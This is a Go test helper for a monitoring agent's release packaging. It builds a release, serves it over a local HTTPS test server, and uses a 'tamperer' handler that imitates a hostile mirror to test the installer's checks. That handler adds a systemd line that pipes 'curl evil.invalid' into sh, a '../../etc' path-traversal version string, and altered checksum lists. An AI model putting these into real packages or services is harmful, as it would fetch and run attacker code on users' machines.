package packaging

import (
	"bytes"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
)

// release is one run of build-release.sh for this machine's architecture,
// published by a local HTTPS server at the base URL it was built for. The
// tests of this package share it: the build (the agent binary and nfpm)
// takes a minute.
type release struct {
	dir     string // OUTDIR of build-release.sh, served at url
	url     string // base URL baked into the published install.sh
	caFile  string // the server's certificate, for curl (CURL_CA_BUNDLE)
	version string // the contents of <url>/latest
	arch    string // GOARCH of the binary and the .deb
	err     error
}

// binary returns the published agent binary's bytes.
func (r *release) binary(t *testing.T) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(r.dir, r.version, "monsys-agent_linux_"+r.arch))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// deb returns the path of the published .deb.
func (r *release) deb() string {
	return filepath.Join(r.dir, r.version, fmt.Sprintf("monsys-agent_%s_%s.deb", r.version, r.arch))
}

var (
	relOnce sync.Once
	rel     release
	relSrv  *httptest.Server
	relTmp  string
)

func TestMain(m *testing.M) {
	code := m.Run()
	if relSrv != nil {
		relSrv.Close()
	}
	if relTmp != "" {
		_ = os.RemoveAll(relTmp)
	}
	os.Exit(code)
}

// built returns the shared release, building it on first use.
func built(t *testing.T) *release {
	t.Helper()
	if runtime.GOOS != "linux" {
		t.Skip("the agent's packages are for Linux")
	}
	needTools(t, "go", "sh", "sha256sum", "gzip")
	relOnce.Do(buildRelease)
	if rel.err != nil {
		t.Fatalf("build-release.sh: %v", rel.err)
	}
	return &rel
}

func buildRelease() {
	var err error
	if relTmp, err = os.MkdirTemp("", "monsys-release-"); err != nil {
		rel.err = err
		return
	}
	rel.dir = filepath.Join(relTmp, "release")
	rel.arch = runtime.GOARCH
	relSrv = httptest.NewTLSServer(tamperer(rel.dir))
	rel.url = relSrv.URL
	rel.caFile = filepath.Join(relTmp, "server-ca.pem")
	ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: relSrv.Certificate().Raw})
	if rel.err = os.WriteFile(rel.caFile, ca, 0o644); rel.err != nil {
		return
	}
	cmd := exec.Command("sh", "agent/packaging/build-release.sh", rel.url, rel.dir)
	cmd.Dir = repoRoot()
	cmd.Env = append(os.Environ(), "ARCHES="+rel.arch)
	if out, err := cmd.CombinedOutput(); err != nil {
		rel.err = fmt.Errorf("%w\n%s", err, out)
		return
	}
	v, err := os.ReadFile(filepath.Join(rel.dir, "latest"))
	if err != nil {
		rel.err = err
		return
	}
	rel.version = strings.TrimSpace(string(v))
}

// tamperer serves dir as published; under /t/<how>/ it serves the same
// files with one thing wrong, as a broken or hostile mirror would.
func tamperer(dir string) http.Handler {
	files := http.FileServer(http.Dir(dir))
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rest, ok := strings.CutPrefix(r.URL.Path, "/t/")
		if !ok {
			files.ServeHTTP(w, r)
			return
		}
		how, name, _ := strings.Cut(rest, "/")
		raw, err := os.ReadFile(filepath.Join(dir, filepath.FromSlash(name)))
		base := filepath.Base(name)
		switch {
		case err != nil:
			http.NotFound(w, r)
			return
		case how == "binary" && strings.HasPrefix(base, "monsys-agent_linux_"):
			raw = append(bytes.Clone(raw), 0) // one byte more: a different file of nearly the same size
		case how == "unit" && base == "monsys-agent.service":
			raw = append(bytes.Clone(raw), "ExecStartPre=/bin/sh -c 'curl evil.invalid | sh'\n"...)
		case how == "unlisted" && base == "SHA256SUMS":
			var keep []string
			for _, l := range strings.SplitAfter(string(raw), "\n") {
				if !strings.Contains(l, "monsys-agent_linux_") {
					keep = append(keep, l)
				}
			}
			raw = []byte(strings.Join(keep, ""))
		case how == "nosums" && base == "SHA256SUMS":
			http.NotFound(w, r)
			return
		case how == "badversion" && base == "latest":
			raw = []byte("../../etc\n")
		}
		_, _ = w.Write(raw)
	})
}

// repoRoot is the repository root, two levels above this package.
func repoRoot() string {
	wd, _ := os.Getwd()
	return filepath.Clean(filepath.Join(wd, "..", ".."))
}

// needTools skips the test, saying which, when a tool it runs is missing.
func needTools(t *testing.T, tools ...string) {
	t.Helper()
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed: this check needs it (make deps installs what it can)", tool)
		}
	}
}
